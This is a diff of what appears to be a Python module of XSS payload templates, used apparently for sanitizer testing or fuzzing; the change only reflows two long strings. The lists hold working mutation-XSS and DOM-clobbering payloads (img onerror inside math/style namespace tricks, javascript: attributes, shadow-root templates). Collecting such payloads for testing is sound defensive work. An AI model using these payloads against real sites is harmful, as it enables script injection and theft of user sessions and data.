@@ -97,7 +97,8 @@ _SCRIPTS = [
     "<div style='width:expression({p})'>x</div>",
 ]
 _MUTATIONS = [
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={p}&gt;'>",
+    "<math><mtext><table><mglyph><style><!--</style>"
+    "<img title='--&gt;&lt;img src=x onerror={p}&gt;'>",
     "<svg></p><style><a id='</style><img src=x onerror={p}>'>",
     "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={p}>",
     "<math><annotation-xml encoding='text/html'><style><img src=x onerror={p}></style>",
@@ -109,7 +110,8 @@ _MUTATIONS = [
     "<table><td background='javascript:{p}'>x",
     "<img src=`x` onerror=`{p}`>",
     "<a id=executed name=executed>x</a><form id=document><input name=body></form>",
-    "<form id=attributes><input name=removeChild><input name=nodeName></form><img src=x onerror={p}>",
+    "<form id=attributes><input name=removeChild><input name=nodeName></form>"
+    "<img src=x onerror={p}>",
     "<img name=getElementById><img name=location><img name=pwn id=pwn>",
     "<div slot=x is=x><template shadowrootmode=open><img src=x onerror={p}></template></div>",
 ]
